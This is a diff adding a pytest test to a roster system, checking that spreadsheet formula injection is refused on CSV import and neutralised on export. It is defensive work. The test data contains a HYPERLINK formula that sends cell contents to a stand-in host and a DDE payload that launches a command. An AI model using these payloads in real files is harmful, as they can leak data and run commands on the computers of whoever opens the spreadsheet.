@@ -11,7 +11,7 @@ import pytest
 import sqlalchemy as sa
 from click.testing import CliRunner
 
-from central import population, roster, schema
+from central import coverage, population, roster, schema
 from central.cli import main
 from protocol import idnumber
 
@@ -96,3 +96,42 @@ def test_cli_refuses_bad_files_in_one_line(tmp_path: Path) -> None:
         done = cli("roster", "import", str(tmp_path / name), "--partial")
         assert done.exit_code == 1, (name, done.output)
         assert done.output.startswith("error: ") and "Traceback" not in done.output
+
+
+def test_formulas_are_refused_on_import_and_neutralised_on_export(
+    central_engine: Any, tmp_path: Path
+) -> None:
+    path = tmp_path / "roster.csv"
+    li = idnumber.make("310104", dt.date(1948, 11, 30), 31)
+    path.write_text(
+        "id_number,name,sex,birth_date,community,account_name\n"
+        f'{WANG},"=HYPERLINK(""http://x.example/""&A1)",F,1950-03-07,Chaoyang,\n'
+        f"{li},Li Wei,M,1948-11-30,\t@SUM(1+1),-Li Wei\n",
+        encoding="utf-8",
+    )
+    with pytest.raises(roster.RosterError) as info:
+        roster.import_csv(central_engine, path)
+    assert [(e.line, e.field) for e in info.value.errors] == [
+        (2, "name"),
+        (3, "community"),
+        (3, "account_name"),
+    ]
+    assert "starts with '=', which a spreadsheet runs as a formula" in str(info.value)
+    # a value stored before this rule (or by SQL) is still neutralised in every CSV export
+    roster.upsert(
+        central_engine,
+        [
+            {
+                "id_number": WANG,
+                "name": "Wang Fang",
+                "sex": "F",
+                "birth_date": dt.date(1950, 3, 7),
+                "community": "=cmd|' /C calc'!A0",
+            }
+        ],
+        "test",
+        dt.datetime.now(dt.UTC),
+    )
+    rows = coverage.report(central_engine, dt.date(2026, 4, 1), 30)
+    text = coverage.to_csv(rows)
+    assert "'=cmd|' /C calc'!A0" in text and '"=cmd' not in text
